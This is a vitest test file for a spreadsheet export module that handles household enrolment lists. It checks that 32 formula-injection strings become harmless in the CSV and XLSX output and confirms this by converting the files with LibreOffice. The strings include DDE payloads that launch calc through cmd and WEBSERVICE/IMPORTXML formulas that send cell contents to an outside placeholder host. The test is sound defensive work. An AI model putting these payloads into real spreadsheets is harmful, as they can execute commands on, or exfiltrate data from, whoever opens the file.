import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { ListRow } from '../domain/model/list-row.ts';
import { buildCsv } from '../formats/csv-writer.ts';
import { buildXlsx } from '../formats/xlsx-writer.ts';
import { buildListCells, listHeaders } from './list-columns.ts';
import { buildListWorkbook } from './list-workbook.ts';
import type { TextContext } from './text-context.ts';

/** What somebody might write into a name, an address or a note to make another's spreadsheet run it. */
const hostile = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.invalid","点此")',
  '=WEBSERVICE("http://example.invalid/"&A1)',
  '=IMPORTXML("http://example.invalid","//a")',
  '=DDE("cmd";"/C calc";"x")',
  '@SUM(A1:A9)',
  '+1+1',
  '-1+1',
  '-1层',
  '+8613807320001',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  '"=1+1',
  '""=1+1"',
  "'=1+1",
  "''=1+1",
  '=1+1,=2+2',
  '=1+1\r\n=2+2',
  ';=1+1',
  ',=1+1',
  '{=1+1}',
  '=A1:A2 B1',
  '=+-@1',
  '\u00a0=1+1',
  '\ufeff=1+1',
] as const;

const context: TextContext = { language: 'zh', idMask: 'none', areaName: () => '' };
const rows = hostile.map(
  (text, at): ListRow => ({
    personId: `P2345678${at}`,
    role: 'owner',
    areaCode: '430302102001',
    name: text,
    sex: '',
    age: -1,
    birthDate: '',
    idNumber: text,
    phone: text,
    household: '',
    relation: '',
    address: text,
    task: 'enrol',
    missing: [],
    suggestedSchemes: [],
    premiumHelp: false,
    reasons: [],
    change: 'new',
    lastNote: text,
  }),
);

const hasOffice = existsSync('/usr/bin/soffice');

let folder = '';
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'formulas-'));
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** Counts the formulas LibreOffice finds in a file. CSV is read as UTF-8, formulas evaluated: the most credulous way. */
function countFormulas(name: string, bytes: Uint8Array): number {
  const path = join(folder, name);
  writeFileSync(path, bytes);
  const filter = name.endsWith('.csv') ? ['--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,0,true'] : [];
  const profile = `-env:UserInstallation=${pathToFileURL(join(folder, 'profile')).href}`;
  execFileSync('soffice', ['--headless', profile, ...filter, '--convert-to', 'fods', '--outdir', folder, path], {
    stdio: 'ignore',
  });
  const flat = readFileSync(path.replace(/\.\w+$/, '.fods'), 'utf8');
  expect(flat).toContain('P23456780');
  return flat.match(/table:formula=/g)?.length ?? 0;
}

describe.skipIf(!hasOffice)('in LibreOffice (skipped where it is not installed)', () => {
  const cells = buildListCells(rows, context);

  test('32 hostile texts in five columns of a list make no formula, as CSV and as workbook', () => {
    expect(hostile).toHaveLength(32);
    expect(countFormulas('list.csv', buildCsv([listHeaders('zh'), ...cells]))).toBe(0);
    const workbook = buildListWorkbook({
      title: '=1+1',
      date: '2026-11-24',
      batchId: '',
      dueDate: '',
      cells,
      withdrawn: [],
      context,
    });
    expect(countFormulas('book.xlsx', buildXlsx(workbook))).toBe(0);
  }, 60_000);

  test('a naive CSV of the same list makes many', () => {
    const quote = (cell: string): string => `"${cell.replaceAll('"', '""')}"`;
    const naive = cells.map((line) => `${line.map(quote).join(',')}\r\n`).join('');
    expect(countFormulas('naive.csv', Buffer.from(naive, 'utf8'))).toBeGreaterThan(20);
  }, 60_000);
});
